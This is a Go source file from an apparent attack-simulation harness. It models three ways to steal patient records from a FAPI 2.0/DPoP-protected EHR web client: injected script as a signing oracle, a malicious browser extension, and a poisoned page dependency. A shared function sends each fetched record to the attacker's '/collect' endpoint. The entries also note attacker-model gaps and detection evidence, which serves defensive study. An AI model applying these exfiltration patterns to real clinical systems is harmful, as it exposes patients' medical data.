package attacker

import (
	"context"
	"net/url"
	"regexp"
	"strings"

	"thiefbox/sim/event"
)

// Script of the thief's runs in the pages of the honest client, in a clinician's browser. It cannot read
// her cookies, and there is no key in the page. It need not: what it asks the client for, the client gets
// with its own token and a proof of its own. How the script came there makes no difference to the server and the API;
// to the client it makes one how the script asks, and how much.
func injectedScript(id string, t Technique, steal func(context.Context, Ground, Script) error) struct{} {
	t.Needs = []event.Vantage{event.PageScript}
	t.Run = func(ctx context.Context, g Ground) error {
		s, err := g.Script()
		if err != nil {
			return err
		}
		newSite(g)
		return steal(ctx, g, s)
	}
	return register(id, t)
}

var _ = injectedScript("D-24", Technique{
	Variant: "signing-oracle",
	Title:   "A script in the page has the client sign for it",
	Story: "A flaw of the EHR lets the thief run script in a clinician's page. The key for proofs cannot be taken away, but whatever the script asks the EHR " +
		"for, the EHR fetches, with a fresh proof. The script opens the record that she has open, in a window she does not see, and sends it to the thief.",
	Reads: []string{"RFC 9449 s11.4", "FAPI 2.0 Attacker Model, outside"},
	Beyond: "A proof shows that the client asked, not why. Injected script is outside the attacker model; a policy for the page's content keeps it out, which " +
		"these pages do not have.",
	Evidence: "Nothing: her browser opens, in her session, a record that she works with. Only the page could tell, if it had a policy that reports what is sent where.",
}, func(ctx context.Context, g Ground, s Script) error {
	page, err := s.Open(ctx, g.Target().ClientRecord+stranger(g))
	if err != nil {
		return err
	}
	return sendPage(ctx, g, s, page)
})

var _ = injectedScript("E-02", Technique{
	Variant: "man-in-the-browser",
	Title:   "Malware in the clinician's browser",
	Story: "A malicious extension works in a clinician's browser while she is signed in. Behind her back it opens one record after another, and sends out " +
		"what it sees.",
	Reads:    []string{"FAPI 2.0 Attacker Model, outside"},
	Beyond:   "The attacker model leaves the person's own machine out: to every server this is the clinician at work.",
	Evidence: "At the client, more records opened in one session within seconds than a person can. If it takes its time: nothing.",
}, func(ctx context.Context, g Ground, s Script) error {
	for _, id := range g.Target().Patients[:handful] {
		page, err := s.Open(ctx, g.Target().ClientRecord+id)
		if err != nil {
			return err
		}
		if err := sendPage(ctx, g, s, page); err != nil {
			return err
		}
	}
	return nil
})

// handful is how many records malware takes at once.
const handful = 4

var _ = injectedScript("E-10", Technique{
	Variant: "poisoned-dependency",
	Title:   "A dependency of the client's page turns against it",
	Story: "The EHR's page loads a library that somebody else maintains. One morning the library's new version also fetches each record that the clinician " +
		"opened lately, and copies it to the thief.",
	Reads:  []string{"RFC 9449 s11.4", "polyfill.io (June 2024)"},
	Beyond: "It runs as the client's own code. FAPI 2.0 keeps tokens and keys in the backend, and so away from the page; what the page may see, it may leak.",
	Evidence: "At the client, records fetched by a script (Sec-Fetch-Mode cors), where its own pages have none that does; reports of a content policy, if the " +
		"pages have one.",
}, func(ctx context.Context, g Ground, s Script) error {
	list, err := s.Fetch(ctx, strings.TrimSuffix(g.Target().ClientRecord, "/"))
	if err != nil {
		return err
	}
	for _, link := range opened.FindAllSubmatch(list.Body, -1) {
		page, err := s.Fetch(ctx, g.Target().ClientRecord+string(link[1]))
		if err != nil {
			return err
		}
		if err := sendPage(ctx, g, s, page); err != nil {
			return err
		}
	}
	return nil
})

// opened are the records that the client's page of patients leads to.
var opened = regexp.MustCompile(`href="/patients/([^"/]+)"`)

func sendPage(ctx context.Context, g Ground, s Script, page Page) error {
	return s.Send(ctx, "https://"+g.Target().OwnHost+"/collect", url.Values{"page": {string(page.Body)}})
}
